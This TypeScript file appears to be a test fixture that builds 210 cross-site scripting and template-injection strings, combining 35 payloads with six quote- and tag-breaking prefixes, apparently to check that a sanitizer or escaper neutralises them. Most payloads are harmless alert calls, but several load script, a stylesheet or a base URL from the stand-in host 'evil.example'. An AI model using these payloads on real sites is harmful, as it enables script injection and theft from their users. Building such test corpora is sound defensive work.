/** Texts that have become markup elsewhere: payloads in every dress that lets them out of quotes. */
const mark = 'top.pwned=1;alert(1)'

const payloads = [
  `<script>${mark}</script>`,
  `<ScRiPt>${mark}</sCrIpT>`,
  `<script src=data:text/javascript,alert(1)></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror="${mark}">`,
  `<img src=x onerror=alert(1)//`,
  `<img/src=x/onerror=alert(1)>`,
  `<svg onload="${mark}">`,
  `<svg><script>${mark}</script></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<body onload=alert(1)>`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<iframe src=javascript:alert(1)></iframe>`,
  `<object data=javascript:alert(1)></object>`,
  `<embed src=javascript:alert(1)>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<input autofocus onfocus=alert(1)>`,
  `<video><source onerror=alert(1)></video>`,
  `<math href=javascript:alert(1)>x</math>`,
  `<a href="javascript:${mark}">x</a>`,
  `<form action=javascript:alert(1)><button>x</button></form>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>*{background:url(//evil.example)}</style>`,
  `<style onload=alert(1)></style>`,
  `<!--<img src=x onerror=alert(1)>-->`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `{{constructor.constructor('alert(1)')()}}`,
  `\${alert(1)}`,
  `<%= alert(1) %>`,
  `javascript:alert(1)`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&#60;script&#62;alert(1)&#60;/script&#62;`,
]

const dresses: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `</script>${payload}`,
  (payload) => `</title></textarea></style>${payload}`,
  (payload) => `\\u003c/script\\u003e--!>${payload}\u2028`,
]

/** 210 of them. */
export const hostileTexts: readonly string[] = dresses.flatMap((dress) => payloads.map(dress))
